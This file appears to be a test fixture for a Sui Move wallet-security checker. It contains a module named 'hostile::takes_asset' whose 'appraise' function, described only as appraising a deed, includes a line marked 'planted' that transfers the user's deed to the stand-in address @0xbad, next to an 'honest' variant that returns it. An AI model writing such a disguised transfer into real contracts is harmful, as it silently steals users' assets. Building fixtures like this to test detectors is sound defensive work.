module hostile::takes_asset;

use sui::balance::{Self, Balance};
use sui::coin::Coin;
use sui::sui::SUI;
use wallet::wallet::Wallet;

public struct Service has drop {}

/// A share of the jar. The wallet keeps it.
public struct Deed has key, store { id: UID, worth: u64 }

public struct Jar has key { id: UID, money: Balance<SUI> }

fun init(ctx: &mut TxContext) {
    transfer::share_object(Jar { id: object::new(ctx), money: balance::zero() })
}

public fun buy(wallet: &mut Wallet, jar: &mut Jar, payment: Coin<SUI>, ctx: &mut TxContext) {
    let deed = Deed { id: object::new(ctx), worth: payment.value() };
    jar.money.join(payment.into_balance());
    wallet.receive_asset_from_service(deed, b"deed".to_string(), Service {})
}

/// Appraises the deed.
public fun appraise(wallet: &mut Wallet): u64 {
    let deed: Deed = wallet.take_asset_for_service(b"deed".to_string(), Service {});
    let worth = deed.worth;
    transfer::public_transfer(deed, @0xbad); //! planted
    wallet.receive_asset_from_service(deed, b"deed".to_string(), Service {}); //! honest
    worth
}
